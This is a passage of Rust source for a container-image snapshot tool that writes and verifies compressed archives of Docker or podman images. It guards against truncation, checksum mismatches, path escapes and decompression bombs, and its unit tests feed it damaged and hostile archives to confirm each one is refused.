    let mut reader = HashingReader::new(data);
    let copied = copy(&mut reader);
    if let Some(failed) = reader.failed {
        return Err(bad(format_args!("{path}: {failed}")));
    }
    copied.map_err(StreamError::Sink)?;
    if reader.len != size {
        return Err(bad(format_args!("{path} has {} bytes, {size} expected", reader.len)));
    }
    Ok(reader.hasher.finalize().to_vec())
}

/// An entry's path (checked: relative, no `..`), kind and link target.
fn entry_facts(entry: &tar::Entry<'_, impl Read>) -> std::result::Result<Option<(String, EntryKind, String)>, String> {
    let Some(kind) = EntryKind::of(entry.header().entry_type())? else {
        return Ok(None);
    };
    let path = archive_path(&entry.path().map_err(|e| e.to_string())?)?;
    let link = match kind {
        EntryKind::Symlink | EntryKind::Link => {
            let target = entry.link_name().map_err(|e| e.to_string())?;
            let target = target.ok_or_else(|| format!("the link {path} has no target"))?;
            target.to_str().ok_or_else(|| format!("the link {path} has a target that is not UTF-8"))?.to_string()
        }
        _ => String::new(),
    };
    Ok(Some((path, kind, link)))
}

fn append_json<W: Write>(out: &mut tar::Builder<W>, name: &str, json: &[u8]) -> io::Result<()> {
    let mut header = tar::Header::new_gnu();
    header.set_size(json.len() as u64);
    header.set_mode(0o644);
    out.append_data(&mut header, name, json)
}

/// Writes the box file (format 2) from the engine's image archive as it
/// streams in, to a temporary file beside `out`, synced; the caller gives it
/// the name once the engine's `save` has succeeded too. A crash, a full disk
/// or an engine that stops half-way never leaves half a file under the name.
/// Without the base image (`meta.base`), its layer files are read and left
/// out, and counted in `left_out`: podman's by their names, checked against
/// their content; Docker's by how deep their folder's layer is (its `json`
/// names its parent), checked too, or when that is not known yet, by their
/// content, through a scratch file.
fn write_box_file(
    out: &Path,
    meta: &BoxFile,
    image: impl Read,
    left_out: &mut LeftOut,
) -> std::result::Result<tempfile::NamedTempFile, StreamError> {
    let dir = match out.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let sink = StreamError::Sink;
    let tmp = tempfile::Builder::new().prefix(".tent-").suffix(".tmp").tempfile_in(dir).map_err(sink)?;
    let mut zstd = zstd::stream::write::Encoder::new(BufWriter::with_capacity(1 << 20, tmp.as_file()), ZSTD_LEVEL)
        .map_err(sink)?;
    zstd.include_checksum(true).map_err(sink)?;
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get()) as u32;
    zstd.multithread(threads).map_err(sink)?;
    let mut tar = tar::Builder::new(zstd);
    append_json(&mut tar, META, &serde_json::to_vec_pretty(meta).expect("a box file serializes")).map_err(sink)?;

    let mut digest = ImageDigest::default();
    let mut left = HashSet::new();
    let mut chain = base::Chain::default();
    let mut archive = tar::Archive::new(BufReader::with_capacity(1 << 20, image));
    for entry in archive.entries().map_err(bad)? {
        let mut entry = entry.map_err(bad)?;
        let Some((path, kind, link)) = entry_facts(&entry).map_err(bad)? else {
            continue;
        };
        let size = if kind == EntryKind::File { entry.size() } else { 0 };
        let stored = format!("{IMAGE_DIR}{path}");
        let (base, layer) = match (&meta.base, kind) {
            (Some(base), EntryKind::File) => (base, base::layer_file(&path, base)),
            _ => {
                let sha = copy_entry(&mut entry, kind, &stored, &link, &mut tar)?;
                digest.add(&path, kind, &link, size, &sha);
                continue;
            }
        };
        // A layer of the base's whose content hashed to `sha`, `expected`
        // its digest when known: checked and left out.
        let mut leave = |sha: String, expected: Option<&str>| {
            if expected.is_some_and(|e| e != sha) || !base.holds(&sha) {
                return Err(bad(format_args!("the layer file {path} has the sha256 {sha}, not its base's")));
            }
            left.insert(sha);
            left_out.bytes += size;
            Ok(())
        };
        let read = |entry: &mut tar::Entry<'_, _>| hash_data(entry, &path, size, &mut io::sink()).map(|s| hex(&s));
        let sha = match layer {
            LayerFile::Other => copy_entry(&mut entry, kind, &stored, &link, &mut tar)?,
            LayerFile::Base(named) => {
                leave(read(&mut entry)?, Some(&named))?;
                continue;
            }
            LayerFile::FolderJson(folder) if size <= CONFIG_LIMIT => {
                let bytes = read_entry(&mut entry, &path, CONFIG_LIMIT).map_err(bad)?;
                chain.note(&folder, &bytes);
                append_file(bytes.as_slice(), kind.header(size, entry.header()), &stored, size, &mut tar)?
            }
            LayerFile::FolderJson(_) => copy_entry(&mut entry, kind, &stored, &link, &mut tar)?,
            // Docker's: how deep the folder's layer is, when its `json` and
            // those below it came first, tells the base's from the box's own.
            LayerFile::Folder(folder) => match chain.depth(&folder) {
                Some(depth) if depth >= base.layers.len() => copy_entry(&mut entry, kind, &stored, &link, &mut tar)?,
                Some(depth) => {
                    leave(read(&mut entry)?, base.layers[depth].strip_prefix("sha256:"))?;
                    continue;
                }
                // A layer with more below it than the base has is the box's own.
                None if chain.depth_at_least(&folder) >= base.layers.len() => {
                    copy_entry(&mut entry, kind, &stored, &link, &mut tar)?
                }
                // Else its content tells, through a scratch file.
                None => {
                    let header = kind.header(size, entry.header());
                    let mut spool = tempfile::tempfile_in(dir).map_err(sink)?;
                    let sha = hex(&hash_data(&mut entry, &path, size, &mut spool)?);
                    if base.holds(&sha) {
                        leave(sha, None)?;
                        continue;
                    }
                    spool.rewind().map_err(sink)?;
                    append_file(spool, header, &stored, size, &mut tar)?
                }
            },
        };
        digest.add(&path, kind, &link, size, &sha);
    }
    if let Some(base) = &meta.base {
        let lacking = base.layers.iter().filter(|l| !left.contains(l.trim_start_matches("sha256:"))).count();
        if lacking > 0 {
            return Err(bad(format_args!("it lacks {lacking} of the layers of {} that the image has", base.image)));
        }
        left_out.layers = left.len();
    }
    let end = serde_json::to_vec_pretty(&digest.end()).expect("a checksum serializes");
    append_json(&mut tar, END, &end).map_err(sink)?;
    tar.into_inner().and_then(|zstd| zstd.finish()).and_then(|mut buffered| buffered.flush()).map_err(sink)?;
    tmp.as_file().sync_all().map_err(sink)?;
    Ok(tmp)
}

/// Writes to the engine's stdin until poisoned: then the stream gets a
/// block no tar reader accepts, and nothing more.
struct Gate<W: Write> {
    inner: W,
    poisoned: bool,
}

impl<W: Write> Gate<W> {
    fn new(inner: W) -> Self {
        Gate { inner, poisoned: false }
    }

    /// Ends the stream so that the engine loads nothing from it: a header
    /// block with a wrong checksum (and no manifest.json was sent).
    fn poison(&mut self) {
        if !self.poisoned {
            let _ = self.inner.write_all(&[0xff; 1024]);
            let _ = self.inner.flush();
            self.poisoned = true;
        }
    }

    fn close(mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

impl<W: Write> Write for Gate<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        if self.poisoned { Ok(buf.len()) } else { self.inner.write(buf) }
    }
    fn flush(&mut self) -> io::Result<()> {
        if self.poisoned { Ok(()) } else { self.inner.flush() }
    }
}

/// How many bytes a box file of `compressed` bytes may inflate to.
fn inflate_limit(compressed: u64) -> u64 {
    compressed.saturating_mul(INFLATE_RATIO).max(INFLATE_FLOOR)
}

/// What a decompressor gives, up to a limit: one byte more is an error, and
/// `over` remembers it (the tar reader above passes the error on as its own).
struct Inflated<R> {
    inner: R,
    left: u64,
    limit: u64,
    over: Rc<Cell<bool>>,
}

impl<R: Read> Inflated<R> {
    fn new(inner: R, limit: u64) -> Self {
        Inflated { inner, left: limit, limit, over: Default::default() }
    }
}

impl<R: Read> Read for Inflated<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if buf.is_empty() {
            return Ok(0);
        }
        let want = buf.len().min(usize::try_from(self.left).unwrap_or(usize::MAX));
        // At the limit: one more byte would be over it.
        let want = want.max(1);
        let n = self.inner.read(&mut buf[..want]).map_err(|e| {
            if e.to_string().contains("too much memory") {
                io::Error::other(format!(
                    "{e} (a zstd window larger than {} MiB; tent writes 2 MiB)",
                    1u64 << (ZSTD_WINDOW_LOG_MAX - 20)
                ))
            } else {
                e
            }
        })?;
        if n as u64 > self.left {
            self.over.set(true);
            return Err(io::Error::other(format!("it inflates to more than {} bytes", self.limit)));
        }
        self.left -= n as u64;
        Ok(n)
    }
}

/// The error for a file that inflates beyond [`inflate_limit`].
fn inflates_too_far(file: &Path, compressed: u64) -> Error {
    Error::Snapshot {
        message: format!(
            "{} inflates to more than {} MiB, over {INFLATE_RATIO} times its {} bytes: tent refuses it as a decompression bomb",
            file.display(),
            inflate_limit(compressed) >> 20,
            compressed
        ),
        hint: Some(
            "a box file tent writes inflates to a few times its size; get the file again from its source, or save the box again with `tent save BOX -o FILE`"
                .into(),
        ),
    }
}

type StreamedArchive = tar::Archive<Inflated<zstd::stream::read::Decoder<'static, BufReader<fs::File>>>>;

/// A format-2 box file as a tar stream: zstd with a bounded window, and
/// bounded in all it inflates to. Also the file's size, and the flag that
/// says whether it inflated too far.
fn open_streamed(file: &Path) -> Result<(StreamedArchive, u64, Rc<Cell<bool>>)> {
    let input = fs::File::open(file).map_err(|e| Error::io(file, e))?;
    let compressed = input.metadata().map_err(|e| Error::io(file, e))?.len();
    let mut zstd = zstd::stream::read::Decoder::new(input).map_err(|e| Error::io(file, e))?;
    zstd.window_log_max(ZSTD_WINDOW_LOG_MAX).map_err(|e| Error::io(file, e))?;
    let inflated = Inflated::new(zstd, inflate_limit(compressed));
    let over = inflated.over.clone();
    Ok((tar::Archive::new(inflated), compressed, over))
}

/// The metadata of a format-2 box file (its first entry, bounded).
fn read_streamed_meta(file: &Path) -> Result<BoxFile> {
    let (mut archive, compressed, over) = open_streamed(file)?;
    let json = (|| {
        let mut entries = archive.entries().map_err(|e| damaged(file, e))?;
        let mut first = entries.next().ok_or_else(|| damaged(file, "it is empty"))?.map_err(|e| damaged(file, e))?;
        meta_json(file, &mut first)
    })();
    let read = json.and_then(|json| match parse_meta(&json) {
        // zstd's checksum comes at the end of the frame, so a flipped byte
        // in the metadata can read as a newer format: the file is called
        // newer only when the whole of it checks out (CI, stop 27).
        Err(MetaError::Newer(v)) => match io::copy(&mut archive.into_inner(), &mut io::sink()) {
            Ok(_) => Err(meta_error(file, MetaError::Newer(v))),
            Err(e) => Err(damaged(file, e)),
        },
        parsed => parsed.map_err(|e| meta_error(file, e)),
    });
    if over.get() {
        return Err(inflates_too_far(file, compressed));
    }
    read
}

fn read_meta_entry(file: &Path, entry: &mut tar::Entry<'_, impl Read>) -> Result<BoxFile> {
    parse_meta(&meta_json(file, entry)?).map_err(|e| meta_error(file, e))
}

/// The bytes of a box file's metadata entry, bounded.
fn meta_json(file: &Path, entry: &mut tar::Entry<'_, impl Read>) -> Result<Vec<u8>> {
    if entry.path().map_err(|e| damaged(file, e))?.as_os_str() != META {
        return Err(not_a_box_file(file));
    }
    if entry.header().entry_type() != tar::EntryType::Regular || entry.size() > META_LIMIT {
        return Err(damaged(file, format!("{META} is not a file of at most {META_LIMIT} bytes")));
    }
    let mut json = Vec::new();
    entry.take(META_LIMIT).read_to_end(&mut json).map_err(|e| damaged(file, e))?;
    Ok(json)
}

fn meta_error(file: &Path, error: MetaError) -> Error {
    match error {
        MetaError::Newer(v) => Error::Snapshot {
            message: format!(
                "{} is of box file format {v}, newer than this tent reads ({NEWEST_FORMAT})",
                file.display()
            ),
            hint: Some("load it with a newer tent".into()),
        },
        MetaError::Bad(detail) => damaged(file, format!("{META}: {}", sanitize(&detail))),
    }
}

/// A format-2 box file's image, checked whole.
#[derive(Debug)]
struct Checked {
    /// The image's id: the sha256 of its config.
    id: String,
    /// Its manifest.json without names, not yet written.
    manifest: Vec<u8>,
}

/// Streams the image of format-2 box `file` into `out` as an image archive
/// without names (no `repositories`, `index.json`, `oci-layout`; the
/// manifest's `RepoTags` emptied), every entry but the manifest, which is
/// returned for the caller to write once it has checked the image's id. The
/// file must still hold `meta`, every path once, its checksum must agree
/// and nothing but the tar's end may follow it.
fn stream_image<W: Write>(
    file: &Path,
    meta: &BoxFile,
    out: &mut tar::Builder<W>,
) -> std::result::Result<Checked, StreamError> {
    let (archive, compressed, over) = open_streamed(file).map_err(StreamError::Other)?;
    let streamed = stream_entries(file, meta, archive, out);
    if over.get() {
        return Err(StreamError::Other(inflates_too_far(file, compressed)));
    }
    streamed
}

fn stream_entries<W: Write>(
    file: &Path,
    meta: &BoxFile,
    mut archive: StreamedArchive,
    out: &mut tar::Builder<W>,
) -> std::result::Result<Checked, StreamError> {
    let mut entries = archive.entries().map_err(bad)?;
    let mut first = entries.next().ok_or_else(|| bad("it is empty"))?.map_err(bad)?;
    if read_meta_entry(file, &mut first).map_err(StreamError::Other)? != *meta {
        return Err(bad(format_args!("{META} changed while it was read")));
    }
    drop(first);
    let mut digest = ImageDigest::default();
    let mut seen = HashSet::new();
    let mut files = HashMap::new();
    // Without the base image: where the links lead, and the configs.
    let mut links = HashMap::new();
    let mut configs = HashMap::new();
    let mut kept = 0;
    let mut manifest = None;
    let end = loop {
        let mut entry = entries.next().ok_or_else(|| bad(format_args!("it ends before {END}")))?.map_err(bad)?;
        let Some((path, kind, link)) = entry_facts(&entry).map_err(bad)? else {
            continue;
        };
        if path == END && kind == EntryKind::File {
            let bytes = read_entry(&mut entry, END, END_LIMIT).map_err(bad)?;
            break serde_json::from_slice::<EndRecord>(&bytes).map_err(|e| bad(format_args!("{END}: {e}")))?;
        }
        let inner = path
            .strip_prefix(IMAGE_DIR)
            .filter(|p| !p.is_empty())
            .ok_or_else(|| bad(format_args!("it holds {path:?}, where the image's entries are")))?
            .to_string();
        if !seen.insert(inner.clone()) {
            return Err(bad(format_args!("the image holds {inner} twice")));
        }
        let size = if kind == EntryKind::File { entry.size() } else { 0 };
        let sha = if kind == EntryKind::File && inner == "manifest.json" {
            let bytes = read_entry(&mut entry, "manifest.json", MANIFEST_LIMIT).map_err(bad)?;
            let sha = Sha256::digest(&bytes).to_vec();
            manifest = Some(bytes);
            sha
        } else if NAMING_FILES.contains(&inner.as_str()) {
            // Hashed (it is in the checksum) but never passed on.
            copy_entry(&mut entry, kind, &inner, &link, &mut tar::Builder::new(io::sink()))?
        } else if meta.base.is_some()
            && kind == EntryKind::File
            && is_config_name(&inner)
            && kept + size <= CONFIG_LIMIT
        {
            // Kept to tell which layers the base's are (an image has one
            // config: all kept are bounded as one is).
            kept += size;
            let bytes = read_entry(&mut entry, &inner, CONFIG_LIMIT).map_err(bad)?;
            let sha = append_file(bytes.as_slice(), kind.header(size, entry.header()), &inner, size, out)?;
            configs.insert(inner.clone(), bytes);
            sha
        } else {
            if meta.base.is_some()
                && matches!(kind, EntryKind::Symlink | EntryKind::Link)
                && let Some(to) = base::link_target(&inner, &link, kind == EntryKind::Symlink)
            {
                links.insert(inner.clone(), to);
            }
            copy_entry(&mut entry, kind, &inner, &link, out)?
        };
        if kind == EntryKind::File {
            files.insert(inner.clone(), (sha.clone(), size));
        }
        digest.add(&inner, kind, &link, size, &sha);
    };
    let sum = digest.end();
    if sum != end {
        return Err(bad(format_args!(
            "its image's sha256 is {} ({} bytes, {} entries), {} ({} bytes, {} entries) expected",
            sum.image_sha256, sum.image_size, sum.entries, end.image_sha256, end.image_size, end.entries
        )));
    }
    if entries.next().is_some() {
        return Err(bad(format_args!("more follows {END}")));
    }
    // The rest, so that zstd's own checksum is checked too: only the tar's
    // end (zero blocks) is left, and no more is read.
    let mut rest = archive.into_inner().take(TRAILER_LIMIT + 1);
    let mut block = [0u8; 8192];
    let mut total = 0;
    loop {
        let n = rest.read(&mut block).map_err(bad)?;
        if n == 0 {
            break;
        }
        total += n as u64;
        if total > TRAILER_LIMIT || block[..n].iter().any(|b| *b != 0) {
            return Err(bad(format_args!("more follows the end of the image's archive")));
        }
    }
    let (mut entry, config) =
        parse_manifest(&manifest.ok_or_else(|| bad("the image has no manifest.json"))?).map_err(bad)?;
    if NAMING_FILES.contains(&config.as_str()) || config == "manifest.json" {
        return Err(bad(format_args!("the image's config is {config}")));
    }
    let id = match files.get(&config) {
        Some((sha, size)) if *size <= CONFIG_LIMIT => hex(sha),
        Some(_) => return Err(bad(format_args!("the image's config is larger than {CONFIG_LIMIT} bytes"))),
        None => return Err(bad(format_args!("the image has no config {config}"))),
    };
    if let Some(base) = &meta.base {
        // Where the engine looks for the layers the file leaves out: an
        // empty file each, never read when the engine has them.
        let config = configs.get(&config).ok_or_else(|| bad("its image's config is not where tent reads it"))?;
        let layers: Vec<String> = entry
            .get("Layers")
            .and_then(|l| serde_json::from_value(l.clone()).ok())
            .ok_or_else(|| bad("its manifest names no layers"))?;
        let diff_ids = base::diff_ids(config).map_err(bad)?;
        let present = |path: &str| files.contains_key(path);
        for path in base::stand_ins(&layers, &diff_ids, present, &links, base).map_err(bad)? {
            let mut header = EntryKind::File.header(0, &tar::Header::new_gnu());
            header.set_mode(0o444);
            out.append_data(&mut header, path, io::empty()).map_err(StreamError::Sink)?;
        }
    }
    entry.insert("RepoTags".into(), serde_json::Value::Null);
    let manifest = serde_json::to_vec(&[entry]).expect("a manifest serializes");
    Ok(Checked { id, manifest })
}

/// An image config's name in an archive: `HEX.json`, at its top.
fn is_config_name(path: &str) -> bool {
    path.strip_suffix(".json").is_some_and(crate::text::is_sha256_hex)
}

fn damaged(file: &Path, detail: impl std::fmt::Display) -> Error {
    Error::Snapshot {
        message: format!("{} is damaged or truncated: {detail}", file.display()),
        hint: Some("save the box again with `tent save BOX -o FILE`, or copy the file again".into()),
    }
}

/// Reads and checks a box file; the image goes to `dir`. A truncated or
/// damaged file is refused: the gzip checksum, the sizes and the image's
/// sha256 must all agree.
pub(super) fn read_box_file(file: &Path, dir: &Path) -> Result<(BoxFile, PathBuf)> {
    let input = fs::File::open(file).map_err(|e| Error::io(file, e))?;
    let compressed = input.metadata().map_err(|e| Error::io(file, e))?.len();
    let gz = Inflated::new(flate2::read::GzDecoder::new(BufReader::new(input)), inflate_limit(compressed));
    let over = gz.over.clone();
    let read = read_legacy_entries(file, dir, compressed, tar::Archive::new(gz));
    if over.get() {
        return Err(inflates_too_far(file, compressed));
    }
    read
}

fn read_legacy_entries(
    file: &Path,
    dir: &Path,
    compressed: u64,
    mut archive: tar::Archive<impl Read>,
) -> Result<(BoxFile, PathBuf)> {
    let mut entries = archive.entries().map_err(|e| damaged(file, e))?;

    let mut first = entries.next().ok_or_else(|| damaged(file, "it is empty"))?.map_err(|e| damaged(file, e))?;
    if first.path().map_err(|e| damaged(file, e))?.as_os_str() != META {
        return Err(Error::Snapshot {
            message: format!("{} is not a tent box file (no {META} at its start)", file.display()),
            hint: Some("make one with `tent save BOX -o FILE`".into()),
        });
    }
    if first.size() > META_LIMIT {
        return Err(damaged(file, format!("{META} is too large")));
    }
    let mut json = Vec::new();
    (&mut first).take(META_LIMIT).read_to_end(&mut json).map_err(|e| damaged(file, e))?;
    let meta = parse_meta(&json).map_err(|e| meta_error(file, e))?;

    let mut second =
        entries.next().ok_or_else(|| damaged(file, "the image is missing"))?.map_err(|e| damaged(file, e))?;
    if second.path().map_err(|e| damaged(file, e))?.as_os_str() != IMAGE {
        return Err(damaged(file, format!("expected {IMAGE} after {META}")));
    }
    // Before a byte is decompressed to disk: the image is as big as the
    // metadata says, and no bigger is written.
    if second.size() != meta.image_size {
        return Err(damaged(file, format!("the image has {} bytes, {} expected", second.size(), meta.image_size)));
    }
    if meta.image_size > inflate_limit(compressed) {
        return Err(inflates_too_far(file, compressed));
    }
    let target = dir.join(IMAGE);
    let out = fs::File::create(&target).map_err(|e| Error::io(&target, e))?;
    let mut writer = HashingWriter { hasher: Sha256::new(), inner: BufWriter::new(out), len: 0 };
    io::copy(&mut (&mut second).take(meta.image_size), &mut writer).map_err(|e| damaged(file, e))?;
    writer.flush().map_err(|e| Error::io(&target, e))?;
    drop(second);
    // The rest, so the gzip trailer (its CRC and length) is checked too:
    // only the tar's end is left, and no more is read.
    let rest =
        io::copy(&mut archive.into_inner().take(TRAILER_LIMIT + 1), &mut io::sink()).map_err(|e| damaged(file, e))?;
    if rest > TRAILER_LIMIT {
        return Err(damaged(file, format!("more than {TRAILER_LIMIT} bytes follow the image")));
    }
    if writer.len != meta.image_size {
        return Err(damaged(file, format!("the image has {} bytes, {} expected", writer.len, meta.image_size)));
    }
    let sum = hex(&writer.hasher.finalize());
    if sum != meta.image_sha256 {
        return Err(damaged(file, format!("the image's sha256 is {sum}, {} expected", meta.image_sha256)));
    }
    Ok((meta, target))
}

#[derive(Debug, PartialEq)]
enum MetaError {
    Newer(u32),
    Bad(String),
}

fn parse_meta(json: &[u8]) -> std::result::Result<BoxFile, MetaError> {
    #[derive(Deserialize)]
    struct Version {
        format: u32,
    }
    let version: Version = serde_json::from_slice(json).map_err(|e| MetaError::Bad(e.to_string()))?;
    if version.format > NEWEST_FORMAT {
        return Err(MetaError::Newer(version.format));
    }
    let meta: BoxFile = serde_json::from_slice(json).map_err(|e| MetaError::Bad(e.to_string()))?;
    if (meta.format <= LEGACY_FORMAT && meta.image_sha256.len() != 64) || meta.image.is_empty() {
        return Err(MetaError::Bad("no image checksum or reference".into()));
    }
    match (&meta.base, meta.format == FORMAT_WITHOUT_BASE) {
        (Some(base), true) => base.check().map_err(MetaError::Bad)?,
        (None, true) => {
            return Err(MetaError::Bad(format!("a file of format {FORMAT_WITHOUT_BASE} names no base image")));
        }
        (Some(_), false) => {
            return Err(MetaError::Bad(format!("only a file of format {FORMAT_WITHOUT_BASE} names a base image")));
        }
        (None, false) => {}
    }
    Ok(meta)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(dir: &Path) -> (PathBuf, BoxFile) {
        let image = dir.join("in.tar");
        let bytes: Vec<u8> = (0..200_000u32).map(|i| (i * 7 % 251) as u8).collect();
        fs::write(&image, &bytes).unwrap();
        let (sha, size) = hash_file(&image).unwrap();
        let meta = BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec { image: "debian:bookworm".into(), ..Default::default() },
            exports: Vec::new(),
            image: "localhost/tent-snapshot/podman/dev:tent-save-1".into(),
            image_sha256: sha,
            image_size: size,
            tent_version: "0".into(),
            base: None,
        };
        let file = dir.join("dev.tent");
        write_legacy_box_file(&file, &meta, &image).unwrap();
        (file, meta)
    }

    /// A box file of format 1, as tents before format 2 wrote it: a gzip'd
    /// tar of tent-box.json and image.tar.
    fn write_legacy_box_file(out: &Path, meta: &BoxFile, image_tar: &Path) -> io::Result<()> {
        let gz = flate2::write::GzEncoder::new(fs::File::create(out)?, flate2::Compression::fast());
        let mut tar = tar::Builder::new(gz);
        let mut meta = meta.clone();
        meta.format = LEGACY_FORMAT;
        append_json(&mut tar, META, &serde_json::to_vec_pretty(&meta).unwrap())?;
        tar.append_file(IMAGE, &mut fs::File::open(image_tar)?)?;
        tar.into_inner()?.finish()?.flush()
    }

    #[test]
    fn round_trip() {
        let dir = tempfile::tempdir().unwrap();
        let (file, meta) = sample(dir.path());
        let out = tempfile::tempdir().unwrap();
        let (read, image) = read_box_file(&file, out.path()).unwrap();
        assert_eq!(read, BoxFile { format: LEGACY_FORMAT, ..meta });
        assert_eq!(fs::read(image).unwrap(), fs::read(dir.path().join("in.tar")).unwrap());
    }

    #[test]
    fn truncated_files_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let (file, _) = sample(dir.path());
        let bytes = fs::read(&file).unwrap();
        for cut in [bytes.len() - 4, bytes.len() / 2, 30] {
            let short = dir.path().join(format!("short-{cut}"));
            fs::write(&short, &bytes[..cut]).unwrap();
            let out = tempfile::tempdir().unwrap();
            let err = read_box_file(&short, out.path()).unwrap_err().to_string();
            assert!(err.contains("damaged or truncated"), "cut at {cut}: {err}");
        }
    }

    #[test]
    fn damaged_files_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let (file, _) = sample(dir.path());
        let mut bytes = fs::read(&file).unwrap();
        let at = bytes.len() * 2 / 3;
        bytes[at] ^= 0x55;
        let bad = dir.path().join("bad");
        fs::write(&bad, &bytes).unwrap();
        let out = tempfile::tempdir().unwrap();
        let err = read_box_file(&bad, out.path()).unwrap_err().to_string();
        assert!(err.contains("damaged or truncated"), "{err}");
        let err = read_box_file(&dir.path().join("in.tar"), out.path()).unwrap_err().to_string();
        assert!(err.contains("damaged or truncated") || err.contains("not a tent box file"), "{err}");
    }

    #[test]
    fn a_wrong_checksum_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let image = dir.path().join("in.tar");
        fs::write(&image, b"image").unwrap();
        let meta = BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec::default(),
            exports: Vec::new(),
            image: "i".into(),
            image_sha256: "0".repeat(64),
            image_size: 5,
            tent_version: "0".into(),
            base: None,
        };
        let file = dir.path().join("f");
        write_legacy_box_file(&file, &meta, &image).unwrap();
        let err = read_box_file(&file, dir.path()).unwrap_err().to_string();
        assert!(err.contains("sha256"), "{err}");
    }

    #[test]
    fn an_image_of_another_size_is_refused_before_it_is_written() {
        let dir = tempfile::tempdir().unwrap();
        let (file, mut meta) = sample(dir.path());
        // The same image, but the metadata says it is bigger (a gzip bomb
        // would say what it likes): refused from the tar header, unwritten.
        meta.image_size += 1;
        let lying = dir.path().join("lying.tent");
        write_legacy_box_file(&lying, &meta, &dir.path().join("in.tar")).unwrap();
        let out = tempfile::tempdir().unwrap();
        let err = read_box_file(&lying, out.path()).unwrap_err().to_string();
        assert!(err.contains("bytes") && err.contains("expected"), "{err}");
        assert!(!out.path().join(IMAGE).exists(), "nothing decompressed to disk");
        assert!(read_box_file(&file, out.path()).is_ok());
    }

    const CONFIG: &[u8] = br#"{"architecture":"amd64","rootfs":{"type":"layers","diff_ids":[]}}"#;

    /// A docker-archive as the engines write it, with names in every place
    /// the engines read them, a link (podman's layers) and a long path.
    fn image_archive(dir: &Path, manifest: &serde_json::Value, extra: &[(&str, &[u8])]) -> PathBuf {
        let path = dir.join("image.tar");
        let mut b = tar::Builder::new(fs::File::create(&path).unwrap());
        let mut add = |name: &str, data: &[u8]| {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o444);
            if name.contains("..") {
                // What the tar crate refuses to write, a hostile file has.
                h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
                h.set_cksum();
                b.append(&h, data).unwrap();
            } else {
                b.append_data(&mut h, name, data).unwrap();
            }
        };
        add("0123.tar", b"layer bytes");
        add("cfg.json", CONFIG);
        add(&format!("{}/VERSION", "d".repeat(120)), b"1.0");
        add("repositories", br#"{"victim":{"latest":"0123"}}"#);
        add("index.json", br#"{"manifests":[{"annotations":{"io.containerd.image.name":"victim:latest"}}]}"#);
        add("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#);
        add("manifest.json", &serde_json::to_vec(manifest).unwrap());
        for (name, data) in extra {
            add(name, data);
        }
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        b.append_link(&mut h, "abc/layer.tar", "../0123.tar").unwrap();
        b.finish().unwrap();
        path
    }

    fn manifest() -> serde_json::Value {
        serde_json::json!([{"Config": "cfg.json", "RepoTags": ["victim:latest", "localhost/x:y"], "Layers": ["abc/layer.tar"]}])
    }

    fn entries(path: &Path) -> Vec<(String, Vec<u8>, Option<String>)> {
        let mut archive = tar::Archive::new(fs::File::open(path).unwrap());
        archive
            .entries()
            .unwrap()
            .map(|e| {
                let mut e = e.unwrap();
                let name = e.path().unwrap().to_string_lossy().into_owned();
                let link = e.link_name().unwrap().map(|l| l.to_string_lossy().into_owned());
                let mut data = Vec::new();
                e.read_to_end(&mut data).unwrap();
                (name, data, link)
            })
            .collect()
    }

    #[test]
    fn a_loaded_archive_carries_no_name_and_is_known_by_its_id() {
        let dir = tempfile::tempdir().unwrap();
        let src = image_archive(dir.path(), &manifest(), &[]);
        let out = dir.path().join("out.tar");
        let id = untagged_archive(&src, &out).unwrap();
        assert_eq!(id, hex(&Sha256::digest(CONFIG)), "the id is the config's sha256");
        let manifest = assert_one_image_without_names(&entries(&out));
        assert_eq!(manifest[0]["Config"], "cfg.json");
    }

    /// The entries of an archive tent hands the engine: the test image's
    /// files, links and long paths as they were, one `manifest.json` without
    /// `RepoTags`, and none of the files that name images. Its manifest.
    fn assert_one_image_without_names(got: &[(String, Vec<u8>, Option<String>)]) -> serde_json::Value {
        let names: Vec<&str> = got.iter().map(|(n, _, _)| n.as_str()).collect();
        for gone in ["repositories", "index.json", "oci-layout"] {
            assert!(!names.contains(&gone), "{gone} is left out: {names:?}");
        }
        assert_eq!(names.iter().filter(|n| **n == "manifest.json").count(), 1);
        let (_, manifest, _) = got.iter().find(|(n, _, _)| n == "manifest.json").unwrap();
        let manifest: serde_json::Value = serde_json::from_slice(manifest).unwrap();
        assert_eq!(manifest[0]["RepoTags"], serde_json::Value::Null);
        assert_eq!(manifest[0]["Layers"][0], "abc/layer.tar");
        let find = |n: &str| got.iter().find(|(name, _, _)| name == n).unwrap_or_else(|| panic!("{n}: {names:?}"));
        assert_eq!(find("0123.tar").1, b"layer bytes");
        assert_eq!(find("cfg.json").1, CONFIG);
        assert_eq!(find(&format!("{}/VERSION", "d".repeat(120))).1, b"1.0", "long paths survive");
        assert_eq!(find("abc/layer.tar").2.as_deref(), Some("../0123.tar"), "links survive");
        manifest
    }

    #[test]
    fn archives_that_are_not_one_plain_image_are_refused() {
        let two = serde_json::json!([{"Config": "cfg.json"}, {"Config": "cfg.json"}]);
        let missing = serde_json::json!([{"Config": "nope.json"}]);
        let named = serde_json::json!([{"Config": "repositories"}]);
        let escaping = serde_json::json!([{"Config": "../cfg.json"}]);
        type Extra<'a> = Vec<(&'a str, &'a [u8])>;
        let cases: Vec<(serde_json::Value, Extra<'_>, &str)> = vec![
            (two, vec![], "holds 2 images"),
            (serde_json::json!([]), vec![], "holds 0 images"),
            (missing, vec![], "no config"),
            (named, vec![], "config is repositories"),
            (escaping, vec![], "the image holds the path"),
            (manifest(), vec![("manifest.json", b"[]")], "manifest.json twice"),
            (manifest(), vec![("./cfg.json", b"{}")], "cfg.json twice"),
